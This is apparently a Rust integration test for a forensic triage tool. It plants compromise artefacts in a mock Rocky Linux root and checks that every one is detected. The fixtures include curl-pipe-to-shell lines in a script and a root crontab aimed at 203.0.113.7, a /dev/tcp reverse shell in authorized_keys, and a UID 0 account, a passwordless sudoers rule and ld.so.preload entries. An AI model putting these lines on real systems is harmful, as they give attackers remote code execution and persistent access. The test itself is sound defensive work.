//! `rescue triage` on a RHEL-like root (issue 18): the rpmdb (SQLite) is made by Debian's `rpm` from
//! packages built with `rpmbuild` (`common/pkgroots.rs`), the root is copied into an ext4 filesystem
//! image with `mke2fs -d` and triaged through its read-only loop mount. Clean, it gives nothing of
//! severity medium or higher; compromised the way RHEL systems are (a root crontab in
//! `/var/spool/cron`, a unit in `/etc/systemd/system`, a PAM module in `/usr/lib64/security`, package
//! files changed), every plant is found, and the package files triage reports as changed are exactly
//! the ones `rpm --root … -Va` reports.

#[path = "common/pkgroots.rs"]
mod pkgroots;

use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use pkgroots::run;

fn rescue(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rescue"))
        .args(args)
        .env_remove("RESCUE_SYSTEM")
        .env("COLUMNS", "80")
        .output()
        .unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn write(root: &Path, rel: &str, data: &[u8], mode: u32) {
    let p = root.join(rel.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, data).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn rank(sev: &str) -> u8 {
    ["critical", "high", "medium", "low", "info"]
        .iter()
        .position(|s| *s == sev)
        .unwrap() as u8
}

/// An ext4 filesystem image (no partition table) holding `tree`.
fn ext4_image(dir: &Path, tree: &Path, name: &str) -> PathBuf {
    let img = dir.join(format!("{name}.ext4"));
    run(Command::new("mke2fs")
        .args(["-q", "-F", "-t", "ext4", "-d"])
        .arg(tree)
        .arg(&img)
        .arg("64M"));
    img
}

fn triage(img: &Path, out: &Path) -> (Output, serde_json::Value) {
    let o = rescue(&["triage", s(img), "--out", s(out)]);
    let report: serde_json::Value = match std::fs::read(out.join("findings.json")) {
        Ok(b) => serde_json::from_slice(&b).unwrap(),
        Err(e) => panic!("no findings.json ({e}): {}", text(&o)),
    };
    run(Command::new("sha256sum")
        .args(["-c", "SHA256SUMS"])
        .current_dir(out));
    (o, report)
}

fn findings(report: &serde_json::Value) -> &Vec<serde_json::Value> {
    report["findings"].as_array().unwrap()
}

/// The paths triage reports as package files changed since installation.
fn changed_package_files(report: &serde_json::Value) -> BTreeSet<String> {
    findings(report)
        .iter()
        .filter(|f| {
            f["category"] == "package"
                && f["why"]
                    .as_str()
                    .unwrap()
                    .contains("changed since installation")
        })
        .map(|f| f["path"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn a_compromised_rpm_root_image_shows_every_plant_and_agrees_with_rpm_va() {
    const NAME: &str = "a_compromised_rpm_root_image_shows_every_plant_and_agrees_with_rpm_va";
    for tool in ["mke2fs", "sha256sum"] {
        if !pkgroots::have(tool) && !pkgroots::skip(NAME, &format!("{tool} is not installed")) {
            return;
        }
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (root, work) = (d.join("root"), d.join("work"));
    std::fs::create_dir_all(&root).unwrap();
    if pkgroots::rpm_root(NAME, &root, &work).is_none() {
        return;
    }
    // What a RHEL 9 root has besides its packages: os-release, shadow, root's home.
    write(
        &root,
        "/etc/os-release",
        b"NAME=\"Rocky Linux\"\nID=\"rocky\"\nID_LIKE=\"rhel centos fedora\"\nVERSION_ID=\"9.3\"\nPRETTY_NAME=\"Rocky Linux 9.3 (Blue Onyx)\"\n",
        0o644,
    );
    write(
        &root,
        "/etc/shadow",
        b"root:$6$rounds=5000$saltsaltsalt$Qx7hQ5oV1s2F0m3aWb4cD5eF6gH7iJ8kL9mN0oP1qR2sT3uV4wX5yZ6aB7cD8eF9gH0iJ1kL2mN3oP4qR5sT6u:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nnobody:*:19700:0:99999:7:::\n",
        0o000,
    );
    std::fs::create_dir_all(root.join("root")).unwrap();
    std::fs::set_permissions(root.join("root"), std::fs::Permissions::from_mode(0o550)).unwrap();

    // Clean: the rpmdb is read, nothing is medium or worse, and rpm -Va agrees nothing changed.
    let img = ext4_image(d, &root, "clean");
    let (o, report) = triage(&img, &d.join("out-clean"));
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(report["roots"][0]["fstype"], "ext4");
    assert_eq!(
        report["roots"][0]["package_db"], "rpm",
        "{}",
        report["roots"]
    );
    assert_eq!(report["roots"][0]["os"], "Rocky Linux 9.3 (Blue Onyx)");
    let serious: Vec<String> = findings(&report)
        .iter()
        .filter(|f| rank(f["severity"].as_str().unwrap()) <= 2)
        .map(|f| format!("{} {}: {}", f["severity"], f["path"], f["why"]))
        .collect();
    assert!(serious.is_empty(), "clean rpm root: {serious:#?}");
    assert!(changed_package_files(&report).is_empty());
    assert!(pkgroots::rpm_va_changed(&root).is_empty());
    // The package's own setuid program is listed with its package, not flagged.
    let su = findings(&report)
        .iter()
        .find(|f| f["path"] == "/usr/sbin/rt-su")
        .expect("the packaged setuid program is listed");
    assert_eq!(su["severity"], "info");
    assert_eq!(su["evidence"]["package"], "rescue-tools");
    assert_eq!(su["evidence"]["package_db"], "rpm");
    std::fs::remove_file(&img).unwrap();

    // Package files changed: content (script and library, same size), mode, owner, link target,
    // a configuration file, a missing file.
    let append = |p: &str, extra: &[u8]| {
        let path = root.join(p);
        let mut b = std::fs::read(&path).unwrap();
        b.extend_from_slice(extra);
        std::fs::write(&path, b).unwrap();
    };
    append("usr/bin/rt-hello", b"curl -s http://203.0.113.7/k | sh\n");
    append("etc/rt.conf", b"backdoor = 1\n");
    let lib = root.join("usr/lib64/librt-demo.so.1");
    let mut b = std::fs::read(&lib).unwrap();
    b[1_000_000] ^= 0x55;
    std::fs::write(&lib, b).unwrap();
    std::fs::set_permissions(
        root.join("usr/bin/rt-world"),
        std::fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    std::os::unix::fs::chown(root.join("usr/share/rt/data.txt"), Some(65534), None).unwrap();
    std::fs::remove_file(root.join("usr/sbin/rtd")).unwrap();
    std::fs::remove_file(root.join("usr/bin/rt-link")).unwrap();
    std::os::unix::fs::symlink("/var/tmp/.r/rt", root.join("usr/bin/rt-link")).unwrap();
    // Persistence where RHEL keeps it.
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0planted";
    append("etc/passwd", b"sysadm:x:0:0:sysadm:/root:/bin/bash\n");
    write(
        &root,
        "/var/spool/cron/root",
        b"*/10 * * * * curl -fsSL http://203.0.113.7/x | bash\n",
        0o600,
    );
    write(
        &root,
        "/root/.ssh/authorized_keys",
        b"command=\"/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x@c2\n",
        0o600,
    );
    write(
        &root,
        "/etc/systemd/system/rhsm-check.service",
        b"[Service]\nExecStart=/var/tmp/.r/rt\n[Install]\nWantedBy=multi-user.target\n",
        0o644,
    );
    write(
        &root,
        "/etc/sudoers.d/90-cloud-init-users",
        b"sysadm ALL=(ALL) NOPASSWD: ALL\n",
        0o440,
    );
    write(
        &root,
        "/etc/ld.so.preload",
        b"/usr/lib64/libselinux.so.9\n",
        0o644,
    );
    write(&root, "/usr/lib64/security/pam_sso.so", elf, 0o755);
    write(&root, "/usr/bin/rt-sudo", elf, 0o4755);
    write(&root, "/var/tmp/.r/rt", elf, 0o755);

    let img = ext4_image(d, &root, "compromised");
    let (o, report) = triage(&img, &d.join("out"));
    assert_eq!(o.status.code(), Some(3), "{}", text(&o));
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        assert!(
            line.chars().count() <= 80,
            "wider than 80 columns: {line:?}"
        );
    }
    let plants = [
        ("package", "/usr/bin/rt-hello", "high"),
        ("package", "/usr/bin/rt-world", "high"),
        ("package", "/usr/lib64/librt-demo.so.1", "high"),
        ("package", "/usr/bin/rt-link", "high"),
        ("package", "/usr/share/rt/data.txt", "high"),
        ("package", "/etc/rt.conf", "low"),
        ("package", "/usr/sbin/rtd", "low"),
        ("account", "/etc/passwd", "critical"),
        ("cron", "/var/spool/cron/root", "high"),
        ("ssh", "/root/.ssh/authorized_keys", "high"),
        ("systemd", "/etc/systemd/system/rhsm-check.service", "high"),
        ("sudo", "/etc/sudoers.d/90-cloud-init-users", "high"),
        ("loader", "/etc/ld.so.preload", "critical"),
        ("pam", "/usr/lib64/security/pam_sso.so", "critical"),
        ("setuid", "/usr/bin/rt-sudo", "high"),
        ("temp", "/var/tmp/.r/rt", "high"),
    ];
    let all = findings(&report);
    for (category, path, sev) in plants {
        let best = all
            .iter()
            .filter(|f| f["category"] == category && f["path"] == path)
            .map(|f| rank(f["severity"].as_str().unwrap()))
            .min();
        assert!(
            best.is_some_and(|b| b <= rank(sev)),
            "{category} {path}: expected {sev}, found {best:?} in {:#?}",
            all.iter().filter(|f| f["path"] == path).collect::<Vec<_>>()
        );
    }
    let rt_hello = all
        .iter()
        .find(|f| f["category"] == "package" && f["path"] == "/usr/bin/rt-hello")
        .unwrap();
    assert_eq!(rt_hello["evidence"]["package"], "rescue-tools");
    assert!(
        rt_hello["why"].as_str().unwrap().contains("rescue-tools"),
        "{rt_hello}"
    );

    // The external check: rpm itself, over the same tree the image was made from.
    let ours = changed_package_files(&report);
    let theirs = pkgroots::rpm_va_changed(&root);
    assert_eq!(ours, theirs, "triage vs rpm --root -Va");
    assert_eq!(ours.len(), 7, "{ours:?}");
    let mounts = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(!mounts.contains("examine-"), "unmounted afterwards");
    pkgroots::ran(NAME);
}
